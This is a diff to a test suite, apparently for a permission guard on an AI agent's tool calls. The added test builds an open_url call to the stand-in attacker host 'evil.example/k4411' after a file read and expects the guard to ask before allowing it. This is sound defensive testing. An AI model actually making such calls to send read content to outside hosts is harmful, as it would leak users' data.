@@ -78,6 +78,15 @@ describe('after a file was read, a host that the user did not name is asked abou
     expect(judged({ reads: linked, args })).toBe('ask discloses')
   })
 
+  test.each([undefined, 'write', 'account', 'share', 'send', 'order', 'browse', 'read'] as const)(
+    'whatever the call does: %s',
+    (deed) => {
+      const call = { ...web('https://evil.example/k4411'), tool: 'open_url', task: 'Update my note and open it.' }
+      const facts: Partial<Facts> = { family: 'unknown', risk: 'Medium', readOnly: false, ...(deed && { deed }) }
+      expect(judged({ ...call, reads: read, facts })).toMatch(/^ask/)
+    },
+  )
+
   test('also at a subdomain of a host the user named', () => {
     expect(judged({ task: 'Read docs.example', reads: read, ...web('https://k3y.docs.example/') })).toBe(
       'ask discloses',
